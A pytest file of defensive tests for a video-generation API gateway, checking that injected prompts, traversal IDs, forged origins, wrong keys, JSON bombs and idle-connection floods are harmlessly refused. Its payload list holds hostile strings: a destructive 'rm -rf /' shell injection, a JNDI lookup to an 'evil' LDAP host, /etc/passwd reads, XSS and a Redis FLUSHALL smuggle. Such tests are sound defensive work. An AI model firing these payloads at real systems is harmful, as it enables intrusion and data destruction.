"""What an attacker or an accident may try with the gateway, and what it costs: nothing.

The isolation of tenants, blocked webhook targets, slow clients and outages have tests of their own.
"""

import asyncio
import json
import secrets
import socket
import time
from pathlib import Path
from typing import Any

import aiohttp
import psutil
import pytest

from videofleet.queue import JobQueue
from videofleet_gateway.settings import read_settings

FLEET = "0b5c2c0e-6f3f-4d0e-9d55-000000000001"
SUBMITS = 200
NASTY = [
    "\r\nX-Injected: yes\r\n\r\na cat runs",
    'a cat runs", "level": "error", "message": "forged',
    "%s%n%x {0.__class__} ${jndi:ldap://evil} #{7*7} {{7*7}}",
    "$(touch pwned) `touch pwned`; rm -rf / | cat & -i /etc/passwd",
    "../../../../etc/passwd\\..\\..\\windows",
    "concat:/etc/passwd|subfile,,start,0,end,1,,:/etc/hosts",
    "a \u202egnp.exe\u202c cat \u200b\u2066 runs \ufeff",
    "a\x00cat\x1b[31mruns\x07\x7f",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "' OR 1=1; -- vf:{x} *3\r\n$7\r\nFLUSHALL\r\n",
]


@pytest.mark.parametrize("prompt", NASTY)
async def test_a_prompt_is_only_ever_data(gateway: Any, http: aiohttp.ClientSession, prompt: str) -> None:
    logged = len(gateway.log())
    async with http.post("/v1/videos", json={"prompt": prompt, "negative_prompt": prompt}) as response:
        assert response.status == 202
        assert "X-Injected" not in response.headers
        video = await response.json()
    async with http.get(f"/v1/videos/{video['id']}") as response:
        assert (await response.json())["prompt"] == prompt
    async with JobQueue.connect(gateway.redis_url, gateway.installation) as queue:
        assert (await queue.get(video["id"])).request.prompt == prompt
    lines = gateway.log()[logged:].splitlines()
    assert [json.loads(line)["message"] for line in lines]
    assert not [line for line in lines if prompt[:12] in line or "forged" in line or "passwd" in line]
    async with http.get("/metrics") as response:
        assert prompt[:12] not in await response.text()


@pytest.mark.parametrize(
    "name",
    [
        "..%2f..%2fetc%2fpasswd",
        "%2e%2e",
        "%2fetc%2fpasswd",
        "video_%00",
        "video_" + "0" * 51 + "%2f",
        "VIDEO_" + "0" * 52,
        "video_" + "z" * 52,
        "video_" + "0" * 52 + "%0a",
        "%F0%9F%A6%8A",
    ],
)
async def test_an_id_that_is_none_is_like_one_that_never_was(http: aiohttp.ClientSession, name: str) -> None:
    for path in ("", "/content", "/events", "/content?variant=thumbnail"):
        async with http.get(f"/v1/videos/{name}{path}") as response:
            assert response.status == 404
            problem = await response.json()
            assert problem["error"]["code"] in ("video_not_found", "not_found")
            assert name not in json.dumps(problem)


async def test_no_other_origin_may_read_anything(http: aiohttp.ClientSession) -> None:
    origin = {"Origin": "https://evil.example.com", "Access-Control-Request-Method": "POST"}
    for method, path in (("OPTIONS", "/v1/videos"), ("GET", "/v1/videos"), ("GET", "/")):
        async with http.request(method, path, headers=origin) as response:
            assert not [name for name in response.headers if name.lower().startswith("access-control-")]


async def test_every_wrong_key_is_answered_alike(gateway: Any) -> None:
    """Nothing tells a known id from an unknown one, or how much of a secret was right."""
    right = gateway.keys["rich"]
    wrong = [right[:-1] + "#", f"vf_nobody_{secrets.token_urlsafe(32)}", "vf_richk_x", "sk-something"]
    told = set()
    async with aiohttp.ClientSession(gateway.url) as http:
        for key in wrong:
            async with http.get("/v1/videos", headers={"Authorization": f"Bearer {key}"}) as response:
                problem = await response.json()
                told.add((response.status, problem["detail"], problem["error"]["code"], len(response.headers)))
    assert len(told) == 1
    assert told.pop()[0] == 401


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 250_000,
        b'{"a":' * 40_000 + b"1" + b"}" * 40_000,
        b'{"prompt": ' + b"9" * 200_000 + b"}",
        b'{"prompt": "' + b"\\u0000" * 40_000 + b'"}',
        b"{" + b",".join(b'"f%d": 1' % number for number in range(15_000)) + b"}",
    ],
)
async def test_a_bomb_is_refused_quickly_and_costs_no_memory(
    gateway: Any, http: aiohttp.ClientSession, body: bytes
) -> None:
    process = psutil.Process(gateway.process.pid)
    before, cpu = process.memory_info().rss, process.cpu_times().user
    for _ in range(5):
        async with http.post("/v1/videos", data=body, headers={"Content-Type": "application/json"}) as response:
            assert response.status in (400, 422)
            assert len(await response.read()) < 20_000
    assert process.memory_info().rss - before < 50 << 20
    assert process.cpu_times().user - cpu < 5 * 0.5


async def test_idle_connections_cost_nobody_his_turn(gateway: Any, http: aiohttp.ClientSession) -> None:
    idle = []
    try:
        for _ in range(400):
            idle.append(socket.create_connection(("127.0.0.1", gateway.port)))
            idle[-1].sendall(b"POST /v1/videos HTTP/1.1\r\nHost: x\r\n")
        began = time.monotonic()
        async with http.post("/v1/videos", json={"prompt": "a fox runs"}) as response:
            assert response.status == 202
        assert time.monotonic() - began < 10
    finally:
        for each in idle:
            each.close()


def test_no_setting_shows_its_secret(tmp_path: Path) -> None:
    (tmp_path / "url").write_text("redis://:zirkonium@redis:6379/0")
    (tmp_path / "key").write_text("zirkonium")
    (tmp_path / "store").mkdir()
    settings = {"url": "s3://videos", "aws_access_key_id": "zirkonium", "aws_secret_access_key": "zirkonium"}
    for name, text in settings.items():
        (tmp_path / "store" / name).write_text(text)
    given = read_settings(
        [
            "--installation=x",
            f"--redis-url-file={tmp_path}/url",
            f"--keys-file={tmp_path}/keys.json",
            f"--store-folder=videos={tmp_path}/store",
            "--moderation-url=https://user:zirkonium@hook.example.com/",
            f"--moderation-key-file={tmp_path}/key",
        ]
    )
    assert "zirkonium" not in repr(given)
    assert "zirkonium" not in repr(given.stores["videos"]) + repr(given.hook)


async def test_probes_and_metrics_are_not_on_the_apis_port_and_the_api_not_on_theirs(gateway: Any) -> None:
    async with aiohttp.ClientSession() as http:
        for path in ("/healthz", "/readyz", "/metrics"):
            async with http.get(f"{gateway.url}{path}") as response:
                assert response.status == 404
            async with http.get(f"{gateway.health_url}{path}") as response:
                assert response.status == 200
        for path in ("/", "/v1/models", "/openapi.json"):
            async with http.get(f"{gateway.health_url}{path}") as response:
                assert response.status == 404


async def test_a_wrong_redis_password_is_not_logged(own_gateway: Any) -> None:
    own_gateway.redis_url = "redis://:zirkonium-secret@" + own_gateway.redis_url.rpartition("@")[2]
    own_gateway.start()
    async with own_gateway.session("rich") as http:
        for path in ("/v1/videos", "/readyz"):
            async with http.get(path) as response:
                assert response.status == 503
                assert "zirkonium" not in await response.text()
    assert own_gateway.stop() == 0
    assert "zirkonium" not in own_gateway.log()


async def test_a_gateway_that_is_killed_makes_each_video_once_or_not_at_all(own_gateway: Any) -> None:
    """`kill -9` again and again while clients repeat what was not answered, under the same Idempotency-Key."""
    own_gateway.start()
    made: dict[str, str] = {}
    kills = 0

    async def client(http: aiohttp.ClientSession, name: str) -> None:
        while True:
            try:
                body, headers = {"prompt": "a fox runs"}, {"Idempotency-Key": name}
                async with http.post("/v1/videos", json=body, headers=headers) as response:
                    if response.status in (200, 202):
                        made[name] = (await response.json())["id"]
                        return
            except aiohttp.ClientError:
                pass
            await asyncio.sleep(0.02)

    async def killer() -> None:
        nonlocal kills
        while len(made) < SUBMITS:
            seen = len(made)
            while len(made) < min(SUBMITS, seen + 16):  # noqa: ASYNC110 - it dies again once it has done something
                await asyncio.sleep(0.001)
            own_gateway.process.kill()
            await asyncio.to_thread(own_gateway.process.wait)
            await asyncio.to_thread(own_gateway.start)
            kills += 1

    async with own_gateway.session("loner0") as http, asyncio.timeout(120):
        killing = asyncio.create_task(killer())
        for begin in range(0, SUBMITS, 8):
            await asyncio.gather(*(client(http, f"key-{number}") for number in range(begin, begin + 8)))
        await killing
    assert kills >= 5
    async with JobQueue.connect(own_gateway.redis_url, own_gateway.installation) as queue:
        assert (await queue.stats(FLEET)).waiting == len(set(made.values())) == SUBMITS
